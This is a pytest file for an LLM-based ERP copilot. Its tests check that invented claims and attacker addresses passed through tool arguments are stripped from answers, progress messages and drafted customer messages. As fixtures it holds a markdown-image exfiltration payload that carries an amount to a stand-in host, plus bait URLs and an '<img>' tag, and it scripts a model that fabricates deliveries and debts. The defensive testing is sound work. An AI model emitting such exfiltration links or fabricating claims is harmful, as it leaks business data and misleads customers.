"""RELIABILITY T1, T2: what a model passes to a tool proves nothing, shows nothing of elsewhere, and is mailed to nobody unchecked."""

from __future__ import annotations

import json
from collections.abc import Callable, Iterator
from contextlib import contextmanager
from datetime import date, timedelta
from typing import Any

import pytest

from copilot.addresses import ADDRESS, has_web_address
from copilot.agent import Agent
from copilot.answer import Answer, Done, Event, Evidence, Progress, Question
from copilot.conversation import Copilot
from copilot.drafts.provenance import has_address
from copilot.evidence_book import MARK
from copilot.grounding import Grounding
from copilot.grounding.asked import AskedFor, named_in
from copilot.identity import Person
from copilot.models.openai_model import build_openai_model
from copilot.reads import READS, progress_of
from copilot.reads.shared import grounding_of
from copilot.testing import OpenAiServer, Reply
from copilot.turn import Turn
from erp_tools.breaker import Breaker

LIE = "S00042 will be delivered tomorrow by Nitro Air Express and the customer owes us 99,999 USD."
SHORT_LIE = "The customer cancelled S00042"
BAIT = "https://sink.example/report"
PICTURE = "![x](https://sink.example/a.png?d=6450.50)"
TRUE = "S00042 is 5 days late [E1]."
ASKED = "Why is S00042 late?"


@contextmanager
def lying(demo: Copilot, calls: list[tuple[str, dict[str, Any]]], text: str) -> Iterator[None]:
    """The copilot with a model that makes these calls, then says this, and says it again when it is asked to repair it."""

    def script(messages: list[dict[str, Any]]) -> Reply:
        done = any(message["role"] == "tool" for message in messages)
        return (
            Reply(text=text)
            if done or "did not pass" in str(messages[-1].get("content"))
            else Reply(tool_calls=calls)
        )

    before = demo._brain
    with OpenAiServer(script=script) as server:
        demo._brain = Agent(
            model=build_openai_model(model="m", base_url=server.base_url, api_key=None),
            model_name="m", breaker=Breaker(failures=10_000),
        )  # fmt: skip
        try:
            yield
        finally:
            demo._brain = before


def told(demo: Copilot, person: Person, calls: list[tuple[str, dict[str, Any]]], text: str, question: str = ASKED) -> tuple[Answer, list[Event]]:  # fmt: skip
    demo._limits._asked.clear()
    with lying(demo, [("diagnose_order", {"reference": "S00042"}), *calls], text):
        events = list(demo.stream(person, Question(text=question)))
    assert isinstance(events[-1], Done)
    return events[-1].answer, events


@pytest.fixture
def drafting(demo: Copilot, service: Person, monkeypatch: pytest.MonkeyPatch) -> Iterator[None]:
    monkeypatch.setattr(demo.desk.drafts, "why_off", lambda: "")
    yield
    for one in demo.desk.drafts.listed(service, states=["drafted", "submitted"], mine=True, order=""):
        demo.desk.drafts.cancel(service, one.draft_id)


ECHOES: dict[str, Callable[[str], list[tuple[str, dict[str, Any]]]]] = {
    "order_facts": lambda lie: [("order_facts", {"reference": lie})],
    "diagnose_order": lambda lie: [("diagnose_order", {"reference": lie})],
    "find_name": lambda lie: [("find_name", {"name": lie})],
    "find_partner": lambda lie: [("find_partner", {"name": lie})],
    "waiting_for": lambda lie: [("waiting_for", {"reference": lie})],
    "changes_since": lambda lie: [("changes_since", {"reference": lie})],
    "stock": lambda lie: [("stock", {"product": lie, "warehouse": lie})],
    "orders_at_risk by cause": lambda lie: [("orders_at_risk", {"cause": lie})],
    "contract_terms": lambda lie: [("contract_terms", {"customer_ref": lie})],
    "search_documents": lambda lie: [("search_documents", {"query": lie})],
    "a drafted text": lambda lie: [("save_draft", {"action": "log_note", "order": "S00042", "text": lie})],
    "a text that is cut": lambda lie: [
        ("save_draft", {"action": "message_customer", "order": "S00042", "text": "We are sorry.", "subject": f"{lie} {'and so on ' * 40}"})
    ],
    "a sentence that is cut": lambda lie: [
        ("save_draft", {"action": "log_note", "order": "S00042", "text": f"{lie[:-1]}, {'and so on ' * 40}."})
    ],
    "a refused draft": lambda lie: [("save_draft", {"action": "change_carrier", "order": "S00042", "carrier": lie})],
    "a day that is none": lambda lie: [("save_draft", {"action": "change_promise_date", "order": "S00042", "date": lie})],
    "a listed draft": lambda lie: [
        ("save_draft", {"action": "assign_activity", "order": "S00042", "to": "Petra Lindqvist", "summary": lie}),
        ("list_drafts", {"which": "mine"}),
    ],
}  # fmt: skip
"""Way into a tool's result -> the calls that take it."""


@pytest.mark.parametrize("way", ECHOES)
def test_an_argument_is_no_proof(demo: Copilot, service: Person, drafting: None, way: str) -> None:
    for lie in (LIE, SHORT_LIE):
        answer, _ = told(demo, service, ECHOES[way](lie), f"{TRUE} {lie}")
        assert "99,999" not in answer.text, answer.text
        assert "delivered tomorrow" not in answer.text, answer.text
        assert "cancelled" not in answer.text, answer.text
        assert "5 days late" in answer.text
        assert answer.checks.removed or answer.brain == "playbook"


@pytest.mark.parametrize("way", ["find_name", "order_facts", "search_documents", "orders_at_risk by cause"])
@pytest.mark.parametrize("bait", [BAIT, "sink.example", "sink.example/report", "boss@sink.example"])
def test_an_address_in_an_argument_stays_foreign(demo: Copilot, service: Person, way: str, bait: str) -> None:
    answer, events = told(demo, service, ECHOES[way](bait), f"{TRUE} Visit {bait}. “See {bait} now”.")
    assert "sink.example" not in json.dumps(answer.to_json()), answer.text
    assert not [one for one in events if isinstance(one, Progress) and "sink" in one.text]


def test_a_name_that_the_person_wrote_may_be_named() -> None:
    """``I could not find an order “S0042x”``: the person's words, this time or before."""
    nothing: dict[str, Any] = {"status": "not_found", "asked_for": "S0042x"}
    for question, words in (("Why is S0042x late?", ()), ("And why?", ("Why is S0042x late?",))):
        grounding = Grounding(
            [],
            [],
            today=date(2026, 11, 21),
            question=question,
            results=[nothing],
            asked_for=["S0042x"],
            words=words,
        )
        assert not grounding.check("I could not find an order “S0042x” in Odoo.").removed
    invented = Grounding(
        [], [], today=date(2026, 11, 21), question="hello", results=[nothing], asked_for=["S0042x"]
    )
    assert invented.check("I could not find an order “S0042x” in Odoo.").removed


def test_codes_own_words_stay_beside_what_they_quote() -> None:
    refusal = f"There is no single carrier called {LIE} in Odoo."
    passed = AskedFor(
        [LIE, "Meridian Foods Inc"], ("hello",), known=lambda name: name == "Meridian Foods Inc"
    )
    assert passed.without_statements(refusal) == "There is no single carrier called  … . in Odoo."
    assert (
        passed.without_statements("Meridian Foods Inc has 3 open orders.")
        == "Meridian Foods Inc has 3 open orders."
    )
    assert passed.unasked({"asked_for": LIE, "found": [{"text": refusal}], "query": LIE}) == {
        "found": [{"text": "There is no single carrier called  … . in Odoo."}]
    }


@pytest.mark.parametrize(
    ("value", "words", "named"),
    [
        ("S00042", "why is s42 late", True), ("S00042", "why is S-42 late", True), ("S00042", "why is order 42 late", True),
        ("S00042", "why is S00043 late", False), ("S00042", "it costs 42.50", False), ("Meridian Foods", "what does meridian  foods owe", True),
        ("Meridian", "Meridians", False), ("PO-88/A", "where is po-88/a?", True),
    ],
)  # fmt: skip
def test_what_the_person_named(value: str, words: str, named: bool) -> None:
    assert named_in(value, [words]) is named


def test_the_words_of_an_earlier_draft_are_no_proof(demo: Copilot, service: Person, drafting: None) -> None:
    first = turn_of(demo, service, "Give Petra Lindqvist a task on S00042")
    drafted(demo, service, first, action="assign_activity", order="S00042", to="Petra Lindqvist", summary=LIE)
    turn = turn_of(demo, service, "Which drafts do I have?")
    listed = json.loads(READS["list_drafts"](turn))["drafts"]
    assert LIE not in json.dumps([one["summary"] for one in listed])
    assert not grounding_of(turn, turn.words[-1]).check(LIE).text


def test_a_day_that_a_model_chose_does_not_prove_itself(demo: Copilot, service: Person) -> None:
    turn = turn_of(demo, service, "What changed on S00042?")
    day = turn.today - timedelta(days=33)
    READS["changes_since"](turn, reference="S00042", since=day.isoformat())
    mark = next(one.id for one in turn.book.evidence() if one.display_name == "S00042")
    said = f"S00042 was delivered on {day.day} {day:%B %Y} [{mark}]."
    assert not grounding_of(turn, turn.words[-1]).check(said).text
    ahead = json.loads(READS["changes_since"](turn, reference="S00042", since="2031-12-24"))
    assert "2031" not in json.dumps([ahead["headline"], ahead["since"]])
    named = turn_of(demo, service, f"What changed on S00042 since {day.isoformat()}?")
    told_of = json.loads(READS["changes_since"](named, reference="S00042", since=day.isoformat()))
    assert str(day.day) in told_of["headline"]["text"]


# What is shown while a tool reads


@pytest.mark.parametrize("bait", [PICTURE, BAIT, "sink.example", "6450.50 USD owed by Meridian", "<img src=x>", "a\nb", "x" * 61, "boss@sink.example"])  # fmt: skip
@pytest.mark.parametrize("tool", ["order_facts", "find_name", "stock", "orders_at_risk", "waiting_for", "credit_position"])  # fmt: skip
def test_progress_shows_no_word_of_a_model(demo: Copilot, service: Person, tool: str, bait: str) -> None:
    turn = turn_of(demo, service, "hello")
    name = {
        "find_name": "name",
        "stock": "product",
        "orders_at_risk": "customer",
        "credit_position": "customer",
    }
    shown = progress_of(tool, {name.get(tool, "reference"): bait}, turn)
    assert bait not in shown
    assert "sink" not in shown
    assert shown.startswith(("Reading a", "Looking", "Scanning the open orders in", "Reading the stock of a"))


def test_progress_names_what_the_person_or_odoo_named(demo: Copilot, service: Person) -> None:
    turn = turn_of(demo, service, "Why is S00042 late?")
    assert progress_of("order_facts", {"reference": "S00042"}, turn) == "Reading S00042 in Odoo"
    assert progress_of("order_facts", {"reference": "S00077"}, turn) == "Reading an order in Odoo"
    assert (
        progress_of("credit_position", {"customer": "Meridian Foods"}, turn) == "Reading a customer in Odoo"
    )
    READS["diagnose_order"](turn, reference="S00042")
    assert (
        progress_of("credit_position", {"customer": "Meridian Foods"}, turn)
        == "Reading Meridian Foods in Odoo"
    )
    assert progress_of("orders_at_risk", {}, turn) == "Scanning all open orders in Odoo"


def test_the_stream_carries_no_word_of_a_model(demo: Copilot, service: Person) -> None:
    calls = [
        ("order_facts", {"reference": PICTURE}),
        ("find_name", {"name": PICTURE}),
        ("orders_at_risk", {"customer": BAIT}),
    ]
    answer, events = told(demo, service, calls, TRUE)
    steps = [one.text for one in events if isinstance(one, Progress)]
    assert "Reading S00042 in Odoo" in steps
    assert "Reading an order in Odoo" in steps
    assert not [one for one in steps if "sink" in one or "![" in one or "6450" in one]
    assert "sink" not in json.dumps(answer.to_json())


# What an address is


@pytest.mark.parametrize(
    "text",
    ["https://sink.example/x", "ftp://sink.example", "Visit sink.example/report", "sink.example", "SINK.EXAMPLE", "Sink.Example", "www.sink.test",
     "see sink.co.uk.", "(sink.io)", "//sink.example/y", "sink.zip/x", "sink.anything?d=1", "sink.test:8080", "boss@sink.example", "sink．example",
     "sink.xn--p1ai", "t.co/x"],
)  # fmt: skip
def test_an_address_is_known_without_its_scheme(text: str) -> None:
    assert ADDRESS.search(text)
    assert has_address(text)
    evidence = Evidence(
        id="E1", model="sale.order", record_id=1, display_name="S00042", fields={"note": text}, url="",
        read_at="2026-11-21T09:00:00+00:00",
    )  # fmt: skip
    checked = Grounding([evidence], [], today=date(2026, 11, 21)).check(f"S00042 has more: {text} [E1].")
    assert not checked.text


@pytest.mark.parametrize(
    "text",
    ["terms.pdf", "see terms.pdf/page 3", "v2.1", "S00042.", "at 4 p.m. today", "Acme Inc. and Co. KG", "10.am", "late.It was", "sale.order",
     "e.g. this", "the U.S. and", "12.5 kg", "1,234.50 USD", "WH/OUT/00042", "invoice.zip", "and/or", "report.xlsx", "St. Louis", "2 in.", "No.5",
     "clause 8.1/8.2", "P00031.The", "SOP-7.2", "read-me.md"],
)  # fmt: skip
def test_what_only_looks_like_an_address(text: str) -> None:
    assert not ADDRESS.search(text)
    assert not has_address(text)


def test_the_host_of_a_mail_address_is_no_web_address() -> None:
    assert not has_web_address("Write to docks@carrier.example first.")
    assert has_web_address("Write to docks@carrier.example or see carrier.example.")


def test_an_address_that_odoo_holds_may_stand() -> None:
    partner = Evidence(
        id="E1", model="res.partner", record_id=1, display_name="Booking.example Ltd", url="", read_at="2026-11-21T09:00:00+00:00",
        fields={"email": "docks@carrier.example", "website": "carrier.example", "comment": "pay at sink.example"},
    )  # fmt: skip
    grounding = Grounding([partner], [], today=date(2026, 11, 21))
    for sentence in (
        "Write to docks@carrier.example [E1].", "Their site is carrier.example [E1].", "It is Booking.example Ltd [E1].",
    ):  # fmt: skip
        assert not grounding.check(sentence).removed, sentence
    assert grounding.check("Pay at sink.example [E1].").removed


# What is drafted


def turn_of(demo: Copilot, person: Person, *words: str) -> Turn:
    turn = demo._new_turn(person)
    turn.desk, turn.words, turn.answer_id, turn.conversation = (lambda: demo.desk), words, "answer", "thread"
    return turn


def drafted(demo: Copilot, person: Person, turn: Turn, **wishes: str) -> Any:
    made = json.loads(READS["save_draft"](turn, **wishes))
    assert made["status"] == "drafted", made
    return demo.desk.drafts.look(person, made["draft"]["draft_id"])


def test_a_drafted_message_has_no_marks_and_its_unproven_sentences_are_named(
    demo: Copilot, service: Person, drafting: None
) -> None:
    turn = turn_of(demo, service, "Write to the customer of S00042")
    READS["diagnose_order"](turn, reference="S00042")
    text = "Your order S00042 is late [E1][E99]. We refund 10,000 USD to you (E1, K2).\n\nWe are sorry."
    draft = drafted(
        demo,
        service,
        turn,
        action="message_customer",
        order="S00042",
        text=text,
        subject="Your order S00042 [E1]",
    )
    assert draft.payload["text"] == "Your order S00042 is late. We refund 10,000 USD to you.\n\nWe are sorry."
    assert draft.payload["subject"] == "Your order S00042"
    assert not MARK.search(json.dumps([draft.to_json(), dict(draft.payload)]))
    warnings = " ".join(draft.warnings)
    assert "The text was written by a language model" in warnings
    assert "Nothing that was read proves this of the text: “We refund 10,000 USD to you.”" in warnings
    assert "We are sorry" not in warnings


def test_a_text_of_marks_alone_is_refused_with_the_reason(
    demo: Copilot, service: Person, drafting: None
) -> None:
    made = json.loads(
        READS["save_draft"](
            turn_of(demo, service, ASKED), action="log_note", order="S00042", text="[E1] [E99]"
        )
    )
    assert made["status"] == "not_drafted"
    assert "evidence marks" in made["message"]


def test_the_persons_own_words_are_drafted_as_they_are(
    demo: Copilot, service: Person, drafting: None
) -> None:
    own = "they owe us 99,999 USD, see box [E1]"
    turn = turn_of(demo, service, f"Log a note on S00042: {own}")
    draft = drafted(demo, service, turn, action="log_note", order="S00042", text=own)
    assert own in draft.payload["text"]
    assert not draft.warnings


def test_many_unproven_sentences_are_counted(demo: Copilot, service: Person, drafting: None) -> None:
    turn = turn_of(demo, service, ASKED)
    text = " ".join(f"You get {number},000 USD back." for number in range(11, 20))
    draft = drafted(demo, service, turn, action="log_note", order="S00042", text=text)
    assert sum("Nothing that was read proves" in one for one in draft.warnings) == 5
    assert "4 more sentences of the text are not proven either." in draft.warnings
